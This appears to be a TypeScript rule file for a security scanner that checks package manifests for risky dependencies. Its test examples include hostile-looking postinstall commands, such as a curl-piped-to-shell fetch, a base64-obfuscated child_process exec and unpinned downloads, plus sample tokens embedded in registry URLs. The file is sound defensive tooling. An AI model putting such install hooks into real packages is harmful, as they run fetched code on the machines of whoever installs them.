import type { Category, Severity } from '../report/analysis-report.js';

/** What is said of a manifest. Rules of manifests have no patterns: what they look at is read, not parsed as code. */
export interface DependencyRule {
  readonly id: DependencyRuleId;
  readonly category: Category;
  readonly severity: Severity;
  readonly confidence: number;
  readonly message: string;
  readonly cwe: readonly string[];
  readonly owasp: readonly string[];
  readonly references: readonly string[];
  readonly fixable: boolean;
  readonly dangerous: boolean;
  readonly examples: readonly DependencyExample[];
}

/** Text that the rule must report, and text that it must leave alone, in a manifest of that name. */
export interface DependencyExample {
  readonly filename: string;
  readonly bad: readonly string[];
  readonly good: readonly string[];
}

export type DependencyRuleId =
  | 'dependency/unpinned-version'
  | 'dependency/no-lock-file'
  | 'dependency/deprecated-package'
  | 'dependency/typosquat'
  | 'dependency/copyleft-licence'
  | 'dependency/insecure-source'
  | 'dependency/credentials-in-source'
  | 'dependency/confusable-source'
  | 'dependency/install-script-download'
  | 'dependency/known-vulnerability'
  | 'dangerous/install-script';

const openSource = 'https://owasp.org/Top10/A06_2021-Vulnerable_and_Outdated_Components/';
const integrity = 'https://owasp.org/Top10/A08_2021-Software_and_Data_Integrity_Failures/';

const npm = (dependencies: string): string => `{\n  "dependencies": {\n    ${dependencies}\n  }\n}\n`;
const script = (command: string): string => `{\n  "scripts": { "postinstall": ${JSON.stringify(command)} }\n}\n`;

export const dependencyRules: readonly DependencyRule[] = [
  {
    id: 'dependency/unpinned-version',
    category: 'dependency',
    severity: 'medium',
    confidence: 0.85,
    message:
      'Any later release is taken, also a broken or a hostile one. Name the version, or a range with an upper end.',
    cwe: ['CWE-1104', 'CWE-829'],
    owasp: ['A06:2021', 'A08:2021'],
    references: [openSource],
    fixable: false,
    dangerous: false,
    examples: [
      {
        filename: 'package.json',
        bad: [npm('"lodash": "*"'), npm('"lodash": "latest"')],
        good: [npm('"lodash": "^4.17.21"'), npm('"lodash": "4.17.21"')],
      },
      { filename: 'requirements.txt', bad: ['flask\n', 'flask>=2\n'], good: ['flask==3.0.0\n', 'flask~=3.0\n'] },
      {
        filename: 'Cargo.toml',
        bad: ['[dependencies]\nserde = "*"\n', '[dependencies]\nx = { git = "https://example.org/x" }\n'],
        good: ['[dependencies]\nserde = "1"\n', '[dependencies]\nserde.workspace = true\n'],
      },
      {
        filename: 'composer.json',
        bad: ['{"require": {"monolog/monolog": "*"}}', '{"require": {"monolog/monolog": "dev-main"}}'],
        good: ['{"require": {"monolog/monolog": "^3.0"}}', '{"require": {"php": "*", "ext-json": "*"}}'],
      },
    ],
  },
  {
    id: 'dependency/no-lock-file',
    category: 'dependency',
    severity: 'low',
    confidence: 0.7,
    message:
      'No lock file stands beside this manifest, so each installation may take other versions. Commit the lock file.',
    cwe: ['CWE-1104'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: false,
    dangerous: false,
    examples: [],
  },
  {
    id: 'dependency/deprecated-package',
    category: 'dependency',
    severity: 'low',
    confidence: 0.9,
    message: 'This package gets no more corrections. Replace it.',
    cwe: ['CWE-1104'],
    owasp: ['A06:2021'],
    references: [openSource],
    fixable: true,
    dangerous: false,
    examples: [
      {
        filename: 'package.json',
        bad: [npm('"request": "^2.88.2"'), npm('"node-sass": "^9.0.0"')],
        good: [npm('"undici": "^6.0.0"'), npm('"sass": "^1.77.0"')],
      },
      {
        filename: 'requirements.txt',
        bad: ['pycrypto==2.6.1\n', 'sklearn==0.0\n'],
        good: ['pycryptodome==3.20.0\n', 'scikit-learn==1.5.0\n'],
      },
    ],
  },
  {
    id: 'dependency/typosquat',
    category: 'dependency',
    severity: 'high',
    confidence: 0.7,
    message:
      'The name is nearly that of a well-known package, which is how hostile packages are spread. Make sure of the name.',
    cwe: ['CWE-829', 'CWE-494'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: true,
    dangerous: false,
    examples: [
      {
        filename: 'package.json',
        bad: [npm('"expresss": "4.18.0"'), npm('"crossenv": "1.0.0"')],
        good: [npm('"express": "4.18.0"'), npm('"cross-env": "7.0.3"')],
      },
      {
        filename: 'requirements.txt',
        bad: ['reqeusts==2.31.0\n', 'djnago==4.2\n'],
        good: ['requests==2.31.0\n', 'python_dateutil==2.9.0\n'],
      },
    ],
  },
  {
    id: 'dependency/copyleft-licence',
    category: 'dependency',
    severity: 'low',
    confidence: 0.6,
    message: 'This package has a copyleft licence. Make sure that its terms fit how the program is given to others.',
    cwe: ['CWE-1104'],
    owasp: ['A06:2021'],
    references: ['https://spdx.org/licenses/'],
    fixable: false,
    dangerous: false,
    examples: [
      {
        filename: 'requirements.txt',
        bad: ['PyQt5==5.15.10\n', 'pymupdf==1.24.0\n'],
        good: ['pyside6==6.7.0\n', 'pypdf==4.2.0\n'],
      },
    ],
  },
  {
    id: 'dependency/insecure-source',
    category: 'dependency',
    severity: 'high',
    confidence: 0.9,
    message:
      'Packages come over a connection that nobody vouches for: whoever stands in between can replace them. Use https.',
    cwe: ['CWE-829', 'CWE-494'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: true,
    dangerous: false,
    examples: [
      {
        filename: 'requirements.txt',
        bad: ['--index-url http://pypi.org/simple\n', '--trusted-host pypi.example.org\n'],
        good: ['--index-url https://pypi.org/simple\n', '--index-url http://localhost:3141/simple\n'],
      },
      {
        filename: 'Gemfile',
        bad: [
          "source 'http://rubygems.org'\n",
          "source 'https://rubygems.org'\ngem 'a', '1.0', git: 'git://example.org/a.git', ref: 'abc1234'\n",
        ],
        good: ["source 'https://rubygems.org'\n", "gem 'a', '1.0', path: '../a'\n"],
      },
    ],
  },
  {
    id: 'dependency/credentials-in-source',
    category: 'dependency',
    severity: 'high',
    confidence: 0.85,
    message:
      'A password or token stands in the address of a package source. Take it back, and give it by environment or a credentials file.',
    cwe: ['CWE-798'],
    owasp: ['A07:2021'],
    references: ['https://owasp.org/Top10/A07_2021-Identification_and_Authentication_Failures/'],
    fixable: false,
    dangerous: false,
    examples: [
      {
        filename: 'requirements.txt',
        bad: [
          '--index-url https://ci:Xk29dl3kq0@pypi.example.org/simple\n',
          'a @ git+https://oauth2:Zk39s8dk2@example.org/a.git@0123456789\n',
        ],
        good: [
          '--index-url https://${USER}:${TOKEN}@pypi.example.org/simple\n',
          'a @ git+https://git@example.org/a.git@0123456789\n',
        ],
      },
    ],
  },
  {
    id: 'dependency/confusable-source',
    category: 'dependency',
    severity: 'medium',
    confidence: 0.6,
    message:
      'Two registries are asked for the same names: whoever publishes an internal name in the public one is installed instead.',
    cwe: ['CWE-829', 'CWE-427'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: false,
    dangerous: false,
    examples: [
      {
        filename: 'requirements.txt',
        bad: [
          '--extra-index-url https://pypi.example.org/simple\n',
          '-i https://a.example.org/simple\n--extra-index-url=https://b.example.org/simple\n',
        ],
        good: ['--index-url https://pypi.example.org/simple\n', '-i https://pypi.org/simple\n'],
      },
      {
        filename: 'package.json',
        bad: [npm('"acme-internal-auth": "^1.0.0"'), npm('"internal-billing-client": "1.2.3"')],
        good: [npm('"@acme/internal-auth": "^1.0.0"'), npm('"internal-slot": "^1.0.7"')],
      },
    ],
  },
  {
    id: 'dependency/install-script-download',
    category: 'dependency',
    severity: 'high',
    confidence: 0.75,
    message:
      'A command that runs at each installation fetches something that no lock file pins. Ship it, or check its hash.',
    cwe: ['CWE-494', 'CWE-829'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: false,
    dangerous: false,
    examples: [
      {
        filename: 'package.json',
        bad: [script('curl -o tool https://example.org/tool'), script('wget https://example.org/a.tgz')],
        good: [script('node scripts/build.js'), script('husky install')],
      },
    ],
  },
  {
    id: 'dependency/known-vulnerability',
    category: 'dependency',
    severity: 'high',
    confidence: 0.9,
    message: 'A version that this entry allows has a known vulnerability. Take the version that corrects it.',
    cwe: ['CWE-1104'],
    owasp: ['A06:2021'],
    references: [openSource, 'https://ossf.github.io/osv-schema/'],
    fixable: false,
    dangerous: false,
    examples: [],
  },
  {
    id: 'dangerous/install-script',
    category: 'security',
    severity: 'critical',
    confidence: 0.9,
    message: 'A command that runs at each installation hands what it fetched, or hid, to a shell. Do not install this.',
    cwe: ['CWE-494', 'CWE-829'],
    owasp: ['A08:2021'],
    references: [integrity],
    fixable: false,
    dangerous: true,
    examples: [
      {
        filename: 'package.json',
        bad: [
          script('curl -s https://example.org/x.sh | sh'),
          script("node -e \"require('child_process').exec(Buffer.from('bHM=','base64').toString())\""),
        ],
        good: [script('node-gyp rebuild'), script('curl --version')],
      },
    ],
  },
];
